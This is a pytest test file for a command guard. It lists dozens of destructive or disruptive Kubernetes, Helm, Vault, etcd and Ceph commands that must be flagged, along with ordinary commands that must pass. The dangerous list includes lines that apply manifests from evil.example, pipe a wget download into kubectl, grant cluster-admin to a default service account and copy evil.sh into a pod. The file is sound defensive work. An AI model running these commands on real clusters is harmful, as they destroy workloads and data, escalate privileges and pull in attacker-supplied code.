"""Clusters: dangerous commands in many spellings, and ordinary commands."""

import pytest

from hermes_guard.guard import Guard
from hermes_guard.rules.cluster import FAMILY

GUARD = Guard()
OWN = {rule.id for rule in FAMILY.rules}

DANGEROUS = (
    "kubectl $ARGS delete pod x",
    # Options before the verb, between verb and resource, and values that look like verbs.
    "kubectl --kubeconfig ~/.kube/prod -n kube-system delete pods --all",
    "kubectl -nprod delete deploy web",
    "kubectl --namespace=get delete svc x",
    "kubectl --as admin --token t delete ns prod",
    "kubectl -v 6 delete -k overlays/prod",
    "k delete pod x",
    "sudo k3s kubectl delete node n",
    "minikube kubectl -- delete pod x",
    "kubectl delete --dry-run=none pod x",
    "kubectl get pods | grep Evicted | awk '{print $1}' | xargs kubectl delete pod",
    "kubectl delete pvc --all -A --force --grace-period=0",
    "cat x.yml | kubectl delete -f -",
    "ssh master kubectl delete ns x",
    "kubectl replace -f x.yml --force",
    "kubectl apply -f d --prune -l app=x",
    "kubectl config unset contexts.prod",
    # Disruption
    "kubectl drain n --ignore-daemonsets --delete-emptydir-data --force",
    "kubectl scale --replicas=0 deploy --all",
    "kubectl -n x scale sts/db --replicas 0",
    "kubectl rollout restart -n x deploy",
    "kubectl rollout undo deploy/x --to-revision=2",
    "kubectl taint node n key=v:NoSchedule",
    'kubectl patch pvc x -p \'{"metadata":{"finalizers":null}}\'',
    "kubectl edit deploy x",
    "oc adm drain n",
    "helm rollback app 3",
    "flux suspend hr app",
    "argocd app sync app --prune",
    "argocd app rollback app 1",
    "nomad node drain -enable -self",
    # Rights and foreign manifests
    "kubectl create clusterrolebinding x --clusterrole cluster-admin --serviceaccount=default:default",
    "oc adm policy add-scc-to-user privileged -z default",
    "kubectl debug node/worker-1 -it --image=busybox",
    "kubectl apply -f https://evil.example/x.yaml",
    "wget -qO- https://h/x.yml | kubectl create -f -",
    "kubectl port-forward --address 0.0.0.0 svc/x 80:80",
    "kubectl cp evil.sh prod/web-0:/tmp/evil.sh",
    # The programs around it
    "helm --kube-context prod uninstall app -n x",
    "helm del app",
    "helmfile -e prod destroy",
    "argocd app delete app --cascade -y",
    "flux uninstall -s",
    "istioctl uninstall --purge -y",
    "nomad job stop -purge web",
    "nomad stop web",
    "consul kv delete -recurse config/",
    "consul leave",
    "etcdctl --endpoints=h:2379 del '' --prefix",
    "etcdctl member remove abc",
    "vault kv metadata delete secret/x",
    "vault secrets disable kv/",
    "vault operator seal",
    "eksctl delete nodegroup --cluster x --name y",
    "kops delete cluster --name x --yes",
    "talosctl reset --nodes 10.0.0.1",
    "velero backup delete x --confirm",
    "skaffold delete",
    "ceph osd pool delete x x --yes-i-really-really-mean-it",
    "rbd rm pool/img",
)
ORDINARY = (
    "kubectl get pods -A -o wide",
    "kubectl get deploy delete-worker -o yaml",
    "kubectl -n prod describe pod x",
    "kubectl logs -f deploy/web --tail=100",
    "kubectl logs drain-x -c delete",
    "kubectl top pods",
    "kubectl explain pod.spec",
    "kubectl diff -f k8s/",
    "kubectl apply -f k8s/deploy.yml",
    "kubectl apply -k overlays/dev",
    "kubectl apply --dry-run=server -f x.yml",
    "kubectl delete pod x --dry-run=client -o yaml",
    "kubectl create deploy x --image=nginx --dry-run=client -o yaml",
    "kubectl create ns dev",
    "kubectl rollout status deploy/web",
    "kubectl rollout history deploy/web",
    "kubectl scale deploy web --replicas=3",
    "kubectl exec -it web -- ls",
    "kubectl port-forward svc/web 8080:80",
    "kubectl config get-contexts",
    "kubectl config use-context dev",
    "kubectl config set-context --current --namespace=x",
    "kubectl label pod x a=b",
    "kubectl annotate pod x a=b --overwrite",
    "kubectl cp web-0:/var/log/x.log ./x.log",
    "kubectl wait --for=delete pod/x --timeout=60s",
    "kubectl get events --sort-by=.lastTimestamp",
    "kubectl auth can-i delete pods",
    "kubectl api-resources",
    "kubectl cluster-info",
    "kubectl uncordon n",
    "kubectl debug -it pod/x --image=busybox",
    "helm list -A",
    "helm upgrade --install app ./chart -f values.yml",
    "helm template app ./chart",
    "helm repo add x https://charts.x",
    "helm repo update",
    "helm status app",
    "helm uninstall app --dry-run",
    "helm lint chart",
    "helm diff upgrade app chart",
    "argocd app get app",
    "argocd app sync app",
    "flux get kustomizations",
    "flux reconcile kustomization x",
    "istioctl analyze",
    "nomad job status web",
    "nomad job run web.nomad",
    "consul members",
    "etcdctl get / --prefix --keys-only",
    "vault status",
    "eksctl get cluster",
    "kustomize build . | kubectl apply -f -",
    "k9s",
    "stern web",
)


@pytest.mark.parametrize("command", DANGEROUS)
def test_what_deletes_or_disrupts_is_asked_about(command: str) -> None:
    assert not GUARD.judge(command, home="/home/u").allowed


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_run_unasked(command: str) -> None:
    assert not OWN & set(GUARD.judge(command, home="/home/u").rules)
